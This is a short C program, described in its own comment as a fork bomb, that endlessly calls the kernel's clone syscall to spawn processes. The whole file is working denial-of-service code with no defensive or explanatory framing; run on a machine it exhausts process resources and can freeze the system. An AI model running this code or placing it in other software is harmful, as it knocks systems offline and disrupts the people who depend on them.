/* A fork bomb that asks the kernel itself. */
#define _GNU_SOURCE
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
  for (;;) syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
}
